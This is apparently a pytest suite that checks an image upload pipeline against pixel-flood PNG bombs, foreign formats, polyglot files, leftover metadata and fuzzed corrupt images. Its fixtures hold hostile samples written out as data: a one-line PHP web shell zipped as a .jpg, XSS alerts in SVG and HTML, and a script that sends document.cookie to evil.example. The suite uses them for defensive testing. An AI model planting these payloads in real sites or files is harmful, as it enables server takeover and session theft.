"""The upload pipeline (marketplace/images.py) against hostile and ordinary images.

Every fixture is generated here with Pillow or by hand; no binary files are committed. No Flask app and no
fixtures beyond pytest's built-ins are needed.
"""

from __future__ import annotations

import contextlib
import io
import random
import resource
import struct
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin, WebPImagePlugin

from marketplace.errors import AppError, PayloadTooLarge
from marketplace.imagepool import InlineDecoder, use_decoder
from marketplace.images import (
    DOCUMENT_POLICY,
    SELFIE_POLICY,
    SUPPORTED_FORMATS,
    VEHICLE_PHOTO_POLICY,
    ImageInvalid,
    ImagePolicy,
    ImageTooLarge,
    ImageTypeUnsupported,
    ProcessedImage,
    metadata_blocks,
    process_image,
)

SHIPPED_POLICIES = [SELFIE_POLICY, DOCUMENT_POLICY, VEHICLE_PHOTO_POLICY]
WEBP_POLICY = ImagePolicy(allowed_formats=SUPPORTED_FORMATS, output_max_side=1600)
RED, BLUE = (255, 0, 0), (0, 0, 255)


# --- fixture builders ---------------------------------------------------------------------------------


def photo(width: int, height: int, seed: int = 1) -> Image.Image:
    """Photograph-like content: gradients plus blotches plus grain, so JPEG has real work to do."""
    random.seed(seed)
    bands = []
    for angle in (0, 35, 80):
        gradient = Image.linear_gradient("L").rotate(angle).resize((width, height))
        blotches = Image.effect_noise((max(1, width // 8), max(1, height // 8)), 60).resize((width, height))
        grain = Image.effect_noise((width, height), 20)
        bands.append(Image.blend(Image.blend(gradient, blotches, 0.4), grain, 0.2))
    return Image.merge("RGB", bands)


def encode(im: Image.Image, fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    im.save(out, fmt, **params)
    return out.getvalue()


@cache
def selfie_jpeg() -> bytes:
    return encode(photo(1080, 1440), "JPEG", quality=90)


@cache
def twelve_mp_jpeg() -> bytes:
    return encode(Image.new("RGB", (4000, 3000), (90, 120, 150)), "JPEG", quality=80)


def png_chunk(ctype: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + ctype + payload + struct.pack(">I", zlib.crc32(ctype + payload))


@cache
def png_bomb(width: int, height: int) -> bytes:
    """A real, complete 1-bit PNG of width x height zero pixels: a few KiB on the wire."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * min(256, height - y)) for y in range(0, height, 256)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_frame(width: int, height: int) -> bytes:
    """A small valid JPEG whose SOF header is rewritten to declare width x height."""
    data = bytearray(encode(Image.new("RGB", (16, 16), BLUE), "JPEG"))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def run(
    data: bytes, policy: ImagePolicy = DOCUMENT_POLICY, declared_type: str | None = None
) -> ProcessedImage:
    return process_image(io.BytesIO(data), policy=policy, declared_type=declared_type)


def reopen(result: ProcessedImage) -> Image.Image:
    im = Image.open(io.BytesIO(result.data), formats=["JPEG"])
    im.load()
    return im


def assert_clean_jpeg(result: ProcessedImage) -> Image.Image:
    assert result.mime == "image/jpeg"
    assert result.data.startswith(b"\xff\xd8\xff")
    assert metadata_blocks(result.data) == set()
    im = reopen(result)
    assert im.format == "JPEG"
    assert im.mode == "RGB"
    assert im.size == (result.width, result.height)
    assert len(im.getexif()) == 0
    assert "icc_profile" not in im.info
    assert "xmp" not in im.info
    assert "comment" not in im.info
    return im


@pytest.fixture
def inline_decoding() -> Iterator[None]:
    """Decode in this process, so that a spy on Pillow sees the calls; every other test here decodes in the
    decoder pool, as the app does."""
    with use_decoder(InlineDecoder()):
        yield


@pytest.fixture
def decode_spy(monkeypatch: pytest.MonkeyPatch, inline_decoding: None) -> list[str]:
    """Records every pixel decode: ImageFile.load() and every decoder Pillow creates."""
    calls: list[str] = []
    original_load = ImageFile.ImageFile.load
    original_getdecoder = Image._getdecoder

    def load(self: ImageFile.ImageFile) -> Any:
        calls.append(f"load {self.format} {self.size}")
        return original_load(self)

    def getdecoder(*args: Any, **kwargs: Any) -> Any:
        calls.append(f"decoder {args[1:2]}")
        return original_getdecoder(*args, **kwargs)

    original_webp_load = WebPImagePlugin.WebPImageFile.load

    def webp_load(self: WebPImagePlugin.WebPImageFile) -> Any:
        calls.append(f"load WEBP {self.size}")
        return original_webp_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    monkeypatch.setattr(WebPImagePlugin.WebPImageFile, "load", webp_load)
    monkeypatch.setattr(Image, "_getdecoder", getdecoder)
    return calls


@pytest.fixture
def open_spy(monkeypatch: pytest.MonkeyPatch, inline_decoding: None) -> list[Any]:
    """Records the ``formats`` of every Image.open call."""
    calls: list[Any] = []
    original_open = Image.open

    def spy(fp: Any, *args: Any, **kwargs: Any) -> Any:
        calls.append(kwargs.get("formats"))
        return original_open(fp, *args, **kwargs)

    monkeypatch.setattr(Image, "open", spy)
    return calls


# --- ordinary uploads ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_phone_selfie_passes_as_jpeg(fmt: str, open_spy: list[Any]) -> None:
    source = selfie_jpeg() if fmt == "JPEG" else encode(photo(1080, 1440), "PNG")
    result = run(source, SELFIE_POLICY, declared_type=f"image/{fmt.lower()}")
    assert open_spy == [[fmt]]  # UP-02: only the sniffed format's decoder is tried
    assert (result.width, result.height) == (1080, 1440)  # already inside 1600 px: not resized
    assert_clean_jpeg(result)


def test_webp_passes_with_the_shipped_policies(decode_spy: list[str]) -> None:
    for policy in SHIPPED_POLICIES:
        result = run(encode(photo(1080, 1440), "WEBP"), policy, declared_type="image/webp")
        assert result.mime == "image/jpeg"
        assert_clean_jpeg(result)


def test_webp_passes_when_a_policy_allows_it(decode_spy: list[str]) -> None:
    result = run(encode(photo(1080, 1440), "WEBP"), WEBP_POLICY, declared_type="image/webp")
    assert decode_spy[0] == "load WEBP (1080, 1440)"  # the spy sees WebP decodes too
    assert (result.width, result.height) == (1080, 1440)
    assert_clean_jpeg(result)


def test_result_fields_and_hash() -> None:
    import hashlib

    result = run(selfie_jpeg(), SELFIE_POLICY)
    assert result.sha256 == hashlib.sha256(result.data).hexdigest()
    assert "data" not in repr(result)  # image bytes never end up in a log line
    with pytest.raises(AttributeError):
        result.width = 1  # type: ignore[misc]


@pytest.mark.parametrize(
    ("policy", "expected"),
    [(SELFIE_POLICY, (1600, 1200)), (VEHICLE_PHOTO_POLICY, (2000, 1500)), (DOCUMENT_POLICY, (2000, 1500))],
)
def test_twelve_megapixel_photo_is_downscaled(
    policy: ImagePolicy, expected: tuple[int, int], decode_spy: list[str]
) -> None:
    result = run(twelve_mp_jpeg(), policy)
    assert (result.width, result.height) == expected
    assert_clean_jpeg(result)
    # draft() with an aspect-ratio box lets libjpeg decode at 1/2 scale whenever the output allows it
    loads = [call for call in decode_spy if call.startswith("load")]
    assert loads[0] == "load JPEG (2000, 1500)"  # later calls are no-ops on the loaded image


def test_declared_type_parameters_and_case_are_tolerated() -> None:
    for declared in ("image/jpeg", "IMAGE/JPEG", "image/jpeg; charset=binary", "image/jpg", "", None):
        assert run(selfie_jpeg(), SELFIE_POLICY, declared_type=declared).width == 1080


@pytest.mark.parametrize(
    ("mode", "fmt"),
    [
        ("L", "JPEG"),
        ("CMYK", "JPEG"),
        ("1", "PNG"),
        ("L", "PNG"),
        ("P", "PNG"),
        ("LA", "PNG"),
        ("RGBA", "PNG"),
    ],
)
def test_other_pixel_modes_become_rgb(mode: str, fmt: str) -> None:
    im = photo(120, 80).convert(mode)
    result = run(encode(im, fmt))
    assert (result.width, result.height) == (120, 80)
    assert_clean_jpeg(result)


def test_transparency_is_flattened_onto_white() -> None:
    im = Image.new("RGBA", (40, 40), (0, 0, 0, 0))
    im.paste((255, 0, 0, 255), (0, 0, 20, 40))
    out = assert_clean_jpeg(run(encode(im, "PNG")))
    assert _close(out.getpixel((30, 20)), (255, 255, 255))
    assert _close(out.getpixel((8, 20)), RED)
    palette = im.convert("P")  # palette PNG with a tRNS chunk
    assert "transparency" in Image.open(io.BytesIO(encode(palette, "PNG"))).info
    out = assert_clean_jpeg(run(encode(palette, "PNG")))
    assert _close(out.getpixel((30, 20)), (255, 255, 255))


def test_mpo_photo_uses_the_first_picture() -> None:
    first, second = Image.new("RGB", (64, 48), RED), Image.new("RGB", (64, 48), BLUE)
    data = encode(first, "MPO", save_all=True, append_images=[second])
    assert getattr(Image.open(io.BytesIO(data)), "n_frames", 1) == 2
    out = assert_clean_jpeg(run(data, declared_type="image/jpeg"))
    assert _close(out.getpixel((32, 24)), RED)


# --- UP-01: pixel floods ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("png 10000x10000", lambda: png_bomb(10_000, 10_000)),
        ("png 14000x14000", lambda: png_bomb(14_000, 14_000)),
        ("png 65535x1", lambda: encode(Image.new("L", (65_535, 1)), "PNG")),
        ("jpeg frame 60000x60000", lambda: jpeg_with_frame(60_000, 60_000)),
        ("jpeg frame 7000x6000", lambda: jpeg_with_frame(7_000, 6_000)),
        ("jpeg frame 13000x100", lambda: jpeg_with_frame(13_000, 100)),
    ],
)
def test_pixel_flood_rejected_from_the_header(
    name: str, data: Callable[[], bytes], decode_spy: list[str]
) -> None:  # UP-01
    payload = data()
    if name.startswith("png 1"):
        assert len(payload) < 24 * 1024  # the flood really is tiny on the wire
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for policy in SHIPPED_POLICIES:
        with pytest.raises(ImageTooLarge) as caught:
            run(payload, policy)
        assert (caught.value.status, caught.value.code) == (422, "image_too_large")
    assert decode_spy == []  # no pixel was decoded
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert grown_kib < 64 * 1024  # a decoded 100 Mpx image would need 100+ MB


def webp_with_canvas(width: int, height: int) -> bytes:
    """A 16x16 lossless WebP whose VP8L header is rewritten to declare width x height."""
    data = bytearray(encode(Image.new("RGB", (16, 16), BLUE), "WEBP", lossless=True))
    at = data.index(b"VP8L") + 8
    assert data[at] == 0x2F  # VP8L signature byte; 14 bits width-1, 14 bits height-1 follow
    bits = int.from_bytes(data[at + 1 : at + 5], "little") & ~((1 << 28) - 1)
    data[at + 1 : at + 5] = ((width - 1) | (height - 1) << 14 | bits).to_bytes(4, "little")
    return bytes(data)


@pytest.mark.parametrize("size", [(16_000, 16_000), (12_500, 100)])
def test_webp_pixel_flood_rejected_from_the_header(
    size: tuple[int, int], decode_spy: list[str]
) -> None:  # UP-01
    with pytest.raises(ImageTooLarge):
        run(webp_with_canvas(*size), WEBP_POLICY)
    assert decode_spy == []


def test_policy_pixel_limit_is_checked_before_load(decode_spy: list[str]) -> None:  # UP-01
    small = ImagePolicy(max_pixels=1_000_000, max_side=1200)
    with pytest.raises(ImageTooLarge) as caught:
        run(jpeg_with_frame(1100, 1000), small)  # 1.1 Mpx, under Pillow's own limit
    assert caught.value.details["width"] == 1100
    with pytest.raises(ImageTooLarge):
        run(jpeg_with_frame(1300, 10), small)  # one side too long
    assert decode_spy == []


def test_bomb_warning_is_an_error_even_where_warnings_are_ignored(
    monkeypatch: pytest.MonkeyPatch, decode_spy: list[str]
) -> None:  # UP-01, F7
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # so only Pillow's warning can fire
    data = encode(photo(40, 40), "JPEG")  # 1600 px: over the warning level, under the 2x error level
    filters_before = list(warnings.filters)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a production process that ignores warnings
        with pytest.raises(ImageTooLarge):
            run(data)
    assert decode_spy == []
    assert warnings.filters == filters_before  # the pipeline restores the caller's filters


def test_pillow_limit_is_lowered_and_policies_cannot_exceed_it() -> None:  # UP-01, F7
    assert Image.MAX_IMAGE_PIXELS is not None
    assert Image.MAX_IMAGE_PIXELS <= 40_000_000  # Pillow's default is 89,478,485
    with pytest.raises(ValueError, match="max_pixels"):
        ImagePolicy(max_pixels=50_000_000)


# --- UP-02: only the allowed decoders run ---------------------------------------------------------------


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", "<?php system($_GET['c']); ?>")
    return out.getvalue()


FOREIGN_FILES: dict[str, Callable[[], bytes]] = {
    "gif": lambda: encode(Image.new("P", (8, 8)), "GIF"),
    "tiff": lambda: encode(Image.new("RGB", (8, 8)), "TIFF"),
    "bmp": lambda: encode(Image.new("RGB", (8, 8)), "BMP"),
    "ico": lambda: encode(Image.new("RGB", (16, 16)), "ICO"),
    "heic": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
    "avif": lambda: b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 64,
    "fits": lambda: b"SIMPLE  =                    T".ljust(2880, b" "),
    "psd": lambda: b"8BPS\x00\x01" + b"\x00" * 64,
    "pdf": lambda: b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
    "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg with xml prolog": lambda: (
        b'\xef\xbb\xbf<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "html renamed .jpg": lambda: b"  <!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
    "zip named .jpg": _zip_bytes,
}


@pytest.mark.parametrize("name", sorted(FOREIGN_FILES))
@pytest.mark.parametrize("declared", [None, "image/jpeg"])
def test_foreign_formats_refused_before_pillow(
    name: str, declared: str | None, open_spy: list[Any]
) -> None:  # UP-02
    data = FOREIGN_FILES[name]()
    for policy in SHIPPED_POLICIES:
        with pytest.raises(ImageTypeUnsupported) as caught:
            run(data, policy, declared_type=declared)
        assert (caught.value.status, caught.value.code) == (415, "unsupported_media_type")
    assert open_spy == []  # no Pillow plugin ever saw the bytes


@pytest.mark.parametrize(
    ("fmt", "declared"),
    [
        ("PNG", "image/jpeg"),
        ("JPEG", "image/png"),
        ("JPEG", "image/webp"),
        ("JPEG", "text/html"),
        ("JPEG", "application/octet-stream"),
        ("PNG", "image/svg+xml"),
    ],
)
def test_declared_type_must_match_the_bytes(fmt: str, declared: str, open_spy: list[Any]) -> None:  # UP-02
    with pytest.raises(ImageTypeUnsupported):
        run(encode(photo(32, 32), fmt), WEBP_POLICY, declared_type=declared)
    assert open_spy == []


# --- UP-03: appended payloads and text chunks ---------------------------------------------------------

SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


@pytest.mark.parametrize("payload", [SCRIPT, b"<html><body>" + SCRIPT + b"</body></html>", "zip"])
def test_appended_payload_removed(payload: bytes | str) -> None:  # UP-03
    tail = _zip_bytes() if payload == "zip" else payload
    assert isinstance(tail, bytes)
    data = encode(photo(200, 150), "JPEG") + tail
    assert "TRAILER" in metadata_blocks(data)
    Image.open(io.BytesIO(data)).load()  # F9: Pillow happily opens the polyglot
    result = run(data, declared_type="image/jpeg")
    assert_clean_jpeg(result)
    for marker in (b"<script", b"<html", b"PK\x03\x04", b"shell.php", b"evil.example"):
        assert marker not in result.data


def test_png_text_chunks_with_html_are_gone() -> None:  # UP-03
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_text("Description", SCRIPT.decode(), zip=True)
    info.add_itxt("Title", "<html>" + SCRIPT.decode() + "</html>", zip=False)
    data = encode(photo(200, 150), "PNG", pnginfo=info) + SCRIPT
    assert {"TEXT", "TRAILER"} <= metadata_blocks(data)
    result = run(data)
    assert_clean_jpeg(result)
    assert b"<script" not in result.data
    assert b"<html" not in result.data


# --- UP-04: metadata stripped, orientation kept -------------------------------------------------------


def _tagged_jpeg() -> bytes:
    """60x40 stored, red block top-left, orientation 6 (display rotated 90 degrees clockwise)."""
    im = Image.new("RGB", (60, 40), BLUE)
    im.paste(RED, (0, 0, 20, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Acme"
    exif[ExifTags.Base.Model] = "Phone 9"
    details = exif.get_ifd(ExifTags.IFD.Exif)
    details[ExifTags.Base.BodySerialNumber] = "SN-0042-7777"
    details[ExifTags.Base.DateTimeOriginal] = "2025:03:14 09:26:53"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (25.0, 11.0, 51.3)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (55.0, 16.0, 27.9)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="25,11.855N"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    return encode(im, "JPEG", quality=95, exif=exif, icc_profile=icc, xmp=xmp, comment=b"owner: A. Customer")


def test_metadata_stripped_and_orientation_applied() -> None:  # UP-04, enforces P-08
    data = _tagged_jpeg()
    assert {"EXIF", "GPS", "XMP", "ICC", "COM"} <= metadata_blocks(data)  # the fixture really carries them
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    result = run(data, SELFIE_POLICY, declared_type="image/jpeg")
    out = assert_clean_jpeg(result)
    assert (result.width, result.height) == (40, 60)  # rotated to portrait
    assert _close(out.getpixel((30, 10)), RED)  # stored top-left is now top-right
    assert _close(out.getpixel((10, 10)), BLUE)
    assert _close(out.getpixel((10, 50)), BLUE)
    for secret in (b"SN-0042-7777", b"Acme", b"2025:03:14", b"owner", b"25,11.855N", b"sRGB"):
        assert secret not in result.data


def test_orientation_applied_after_downscale() -> None:  # UP-04
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    data = encode(Image.new("RGB", (4000, 3000), BLUE), "JPEG", exif=exif)
    result = run(data, SELFIE_POLICY)
    assert (result.width, result.height) == (1200, 1600)


def test_png_metadata_stripped() -> None:  # UP-04, enforces P-08
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 3
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "N"
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta/>")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    im = Image.new("RGB", (40, 20), BLUE)
    im.paste(RED, (0, 0, 10, 10))
    data = encode(im, "PNG", exif=exif, pnginfo=info, icc_profile=icc)
    assert {"EXIF", "XMP", "ICC"} <= metadata_blocks(data)
    out = assert_clean_jpeg(run(data))
    assert _close(out.getpixel((35, 15)), RED)  # orientation 3: rotated 180 degrees


def test_metadata_blocks_reads_jpeg_structure() -> None:
    plain = encode(photo(32, 32), "JPEG")
    assert metadata_blocks(plain) == set()
    assert metadata_blocks(encode(photo(32, 32), "JPEG", progressive=True)) == set()
    with pytest.raises(ValueError):
        metadata_blocks(b"GIF89a")


# --- UP-05: corrupt files -----------------------------------------------------------------------------


def _png_with_bad_crc(chunk: bytes) -> bytes:
    data = bytearray(encode(photo(32, 32), "PNG"))
    at = data.index(chunk)
    (length,) = struct.unpack_from(">I", data, at - 4)
    data[at + 4 + length] ^= 0xFF
    return bytes(data)


CORRUPT_FILES: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "one byte ff": lambda: b"\xff",
    "one byte 89": lambda: b"\x89",
    "jpeg signature only": lambda: b"\xff\xd8\xff",
    "truncated jpeg": lambda: selfie_jpeg()[: len(selfie_jpeg()) // 2],
    "jpeg without scan": lambda: encode(photo(64, 64), "JPEG")[:400],
    "png bad crc in IHDR": lambda: _png_with_bad_crc(b"IHDR"),
    "png bad crc in IDAT": lambda: _png_with_bad_crc(b"IDAT"),
    "truncated png": lambda: encode(photo(64, 64), "PNG")[:-30],
    "png signature only": lambda: b"\x89PNG\r\n\x1a\n",
    "random bytes": lambda: random.Random(7).randbytes(4096),
    "webp header only": lambda: b"RIFF\x10\x00\x00\x00WEBPVP8 \x04\x00\x00\x00",
}


@pytest.mark.parametrize("name", sorted(CORRUPT_FILES))
def test_corrupt_files_are_invalid(name: str) -> None:  # UP-05
    data = CORRUPT_FILES[name]()
    with pytest.raises(ImageInvalid) as caught:
        run(data, WEBP_POLICY)
    assert (caught.value.status, caught.value.code) == (422, "image_invalid")


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(
            lambda: encode(
                Image.new("RGB", (32, 32), RED),
                "PNG",
                save_all=True,
                append_images=[Image.new("RGB", (32, 32), BLUE)],
            ),
            id="apng",
        ),
        pytest.param(
            lambda: encode(
                Image.new("RGB", (32, 32), RED),
                "WEBP",
                save_all=True,
                append_images=[Image.new("RGB", (32, 32), BLUE)],
            ),
            id="animated webp",
        ),
        pytest.param(lambda: encode(Image.new("I;16", (32, 32), 40000), "PNG"), id="16-bit png"),
    ],
)
def test_animated_and_deep_images_are_invalid(
    make: Callable[[], bytes], decode_spy: list[str]
) -> None:  # UP-05
    data = make()
    opened = Image.open(io.BytesIO(data))
    assert getattr(opened, "n_frames", 1) > 1 or opened.mode.startswith("I")
    decode_spy.clear()
    with pytest.raises(ImageInvalid):
        run(data, WEBP_POLICY)
    assert not [call for call in decode_spy if call.startswith("load")]


def _mutations(base: bytes) -> st.SearchStrategy[bytes]:
    edits = st.lists(st.tuples(st.integers(0, len(base) - 1), st.integers(0, 255)), min_size=1, max_size=12)
    cut = st.one_of(st.none(), st.integers(0, len(base)))
    insert = st.one_of(st.none(), st.tuples(st.integers(0, len(base)), st.binary(min_size=1, max_size=64)))

    def apply(args: tuple[list[tuple[int, int]], int | None, tuple[int, bytes] | None]) -> bytes:
        changes, length, extra = args
        data = bytearray(base)
        for at, value in changes:
            data[at] = value
        if extra is not None:
            data[extra[0] : extra[0]] = extra[1]
        return bytes(data[:length] if length is not None else data)

    return st.tuples(edits, cut, insert).map(apply)


@cache
def _small_jpeg() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 8
    return encode(photo(48, 32, seed=3), "JPEG", quality=70, exif=exif, comment=b"hi")


@cache
def _small_png() -> bytes:
    return encode(photo(40, 30, seed=4).convert("P"), "PNG")


def _only_results_or_app_errors(data: bytes) -> None:
    try:
        result = run(data, WEBP_POLICY, declared_type=None)
    except AppError as exc:
        event(exc.code)
        assert exc.status in {413, 415, 422}
        assert exc.code in {"payload_too_large", "unsupported_media_type", "image_too_large", "image_invalid"}
    else:
        event("processed")
        assert_clean_jpeg(result)


# 3 x 1000 mutated images plus 300 arbitrary byte strings per run (UP-05 asks for 2 000+); a few seconds.
_FUZZ = settings(
    max_examples=1000, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)


@_FUZZ
@given(_mutations(_small_jpeg()))
def test_mutated_jpeg_never_escapes(data: bytes) -> None:  # UP-05
    _only_results_or_app_errors(data)


@_FUZZ
@given(_mutations(_small_png()))
def test_mutated_png_never_escapes(data: bytes) -> None:  # UP-05
    _only_results_or_app_errors(data)


def _repair_png_crcs(data: bytes) -> bytes:
    """Recompute every chunk CRC, so a mutation gets past the CRC check and reaches Pillow's parser."""
    out = bytearray(data)
    pos = 8
    while pos + 12 <= len(out):
        (length,) = struct.unpack_from(">I", out, pos)
        end = pos + 12 + length
        if end > len(out):
            break
        struct.pack_into(">I", out, end - 4, zlib.crc32(out[pos + 4 : end - 4]))
        pos = end
    return bytes(out)


@_FUZZ
@given(_mutations(_small_png()).map(_repair_png_crcs))
def test_mutated_png_with_valid_crcs_never_escapes(data: bytes) -> None:  # UP-05
    _only_results_or_app_errors(data)


@settings(_FUZZ, max_examples=300)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_never_escape(data: bytes) -> None:  # UP-05
    _only_results_or_app_errors(data)


# --- size limit and memory-only handling --------------------------------------------------------------


class EndlessStream(io.RawIOBase):
    """A client that never stops sending; counts what the pipeline pulled."""

    def __init__(self) -> None:
        self.served = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        size = min(len(buffer), 8192)  # short reads, like a socket
        buffer[:size] = b"\xff" * size
        self.served += size
        return size


def test_oversize_upload_is_refused_without_reading_it_all() -> None:  # P-08, UP-07 size side
    policy = ImagePolicy(max_bytes=100_000)
    stream = EndlessStream()
    with pytest.raises(PayloadTooLarge) as caught:
        process_image(stream, policy=policy)  # type: ignore[arg-type]
    assert (caught.value.status, caught.value.code) == (413, "payload_too_large")
    assert stream.served == 100_001


def test_exact_size_limit_is_allowed_and_one_more_byte_is_not() -> None:
    data = selfie_jpeg()
    assert run(data, ImagePolicy(max_bytes=len(data))).width == 1080
    with pytest.raises(PayloadTooLarge):
        run(data, ImagePolicy(max_bytes=len(data) - 1))


def test_default_limit_is_15_mib() -> None:
    assert DOCUMENT_POLICY.max_bytes == SELFIE_POLICY.max_bytes == 15 * 1024 * 1024
    with pytest.raises(PayloadTooLarge):
        run(b"\xff\xd8\xff" + b"\x00" * (15 * 1024 * 1024))


@pytest.fixture
def private_tempdir(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """Point tempfile (and TMPDIR) at an empty directory of our own and record any tempfile call."""
    directory = tmp_path / "tmp"
    directory.mkdir()
    monkeypatch.setenv("TMPDIR", str(directory))
    monkeypatch.setattr(tempfile, "tempdir", str(directory))
    used: list[str] = []
    for name in ("mkstemp", "mkdtemp", "NamedTemporaryFile", "TemporaryFile", "SpooledTemporaryFile"):
        original = getattr(tempfile, name)

        def spy(*args: Any, _name: str = name, _original: Any = original, **kwargs: Any) -> Any:
            used.append(_name)
            return _original(*args, **kwargs)

        monkeypatch.setattr(tempfile, name, spy)
    yield directory
    assert used == []


def test_pipeline_writes_no_temp_files(private_tempdir: Path) -> None:  # enforces P-08, UP-05
    assert tempfile.gettempdir() == str(private_tempdir)
    before = sorted(private_tempdir.iterdir())
    inputs = [
        selfie_jpeg(),
        twelve_mp_jpeg(),
        encode(photo(300, 200), "PNG"),
        encode(photo(300, 200), "WEBP"),
        _tagged_jpeg(),
        *(make() for make in CORRUPT_FILES.values()),
        *(make() for make in FOREIGN_FILES.values()),
        png_bomb(10_000, 10_000),
    ]
    for data in inputs:
        with contextlib.suppress(AppError):
            run(data, WEBP_POLICY)
    assert sorted(private_tempdir.iterdir()) == before == []


# --- policy -------------------------------------------------------------------------------------------


def test_shipped_policies() -> None:
    assert SELFIE_POLICY.output_max_side == 1600
    assert DOCUMENT_POLICY.output_max_side == 2000
    for policy in SHIPPED_POLICIES:
        # the KYC issue: "only JPEG/PNG/WebP (decoders restricted to those)"
        assert policy.allowed_formats == ("JPEG", "PNG", "WEBP")
        assert policy.max_pixels == 40_000_000
        assert policy.max_side == 12_000


@pytest.mark.parametrize(
    "kwargs",
    [
        {"allowed_formats": ("GIF",)},
        {"allowed_formats": ()},
        {"max_bytes": 0},
        {"output_max_side": 0},
        {"output_quality": 100},
    ],
)
def test_invalid_policies_are_refused(kwargs: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        ImagePolicy(**kwargs)


def _close(actual: Any, expected: tuple[int, int, int], tolerance: int = 40) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))
